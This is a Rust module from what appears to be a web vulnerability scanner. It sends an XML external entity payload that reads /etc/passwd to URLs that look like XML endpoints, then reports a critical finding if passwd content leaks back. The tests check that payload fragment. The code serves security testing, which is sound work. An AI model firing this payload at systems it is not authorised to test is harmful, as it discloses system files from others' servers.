use crate::findings::{FindingStore, Severity};
use crate::http_client::HttpClient;
use crate::payloads::{XXE_INDICATORS, XXE_PATH_HINTS, XXE_PAYLOAD};
use crate::state::ScanState;

const ENDPOINT_BUDGET: usize = 10;

/// XML external entity injection against endpoints that look like XML
/// consumers. The payload pulls /etc/passwd through a SYSTEM entity.
pub async fn run(state: &ScanState, http: &HttpClient, findings: &FindingStore) {
    let endpoints: Vec<String> = state
        .discovered_urls
        .iter()
        .filter(|u| {
            let lower = u.to_lowercase();
            XXE_PATH_HINTS.iter().any(|hint| lower.contains(hint))
        })
        .take(ENDPOINT_BUDGET)
        .cloned()
        .collect();

    if endpoints.is_empty() {
        tracing::info!("no XML-looking endpoints to test");
        return;
    }

    for url in endpoints {
        let Ok(resp) = http
            .client()
            .post(&url)
            .header("Content-Type", "application/xml")
            .body(XXE_PAYLOAD)
            .send()
            .await
        else {
            continue;
        };
        let Ok(body) = resp.text().await else { continue };

        if let Some(indicator) = matches_file_disclosure(&body) {
            findings.add(
                Severity::Critical,
                "XXE",
                "XML External Entity injection",
                format!(
                    "URL: {}\nLocal file content leaked into the response ('{}').",
                    url, indicator
                ),
                "Disable DTD processing and external entity resolution in the XML parser.",
            );
        }
    }
}

pub fn matches_file_disclosure(body: &str) -> Option<&'static str> {
    XXE_INDICATORS.iter().find(|i| body.contains(*i)).copied()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn passwd_content_triggers_oracle() {
        let body = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin";
        assert_eq!(matches_file_disclosure(body), Some("root:x:"));
    }

    #[test]
    fn xml_echo_is_not_a_hit() {
        assert_eq!(matches_file_disclosure("<root>&xxe;</root>"), None);
    }

    #[test]
    fn payload_declares_system_entity() {
        assert!(XXE_PAYLOAD.contains(r#"SYSTEM "file:///etc/passwd""#));
    }
}
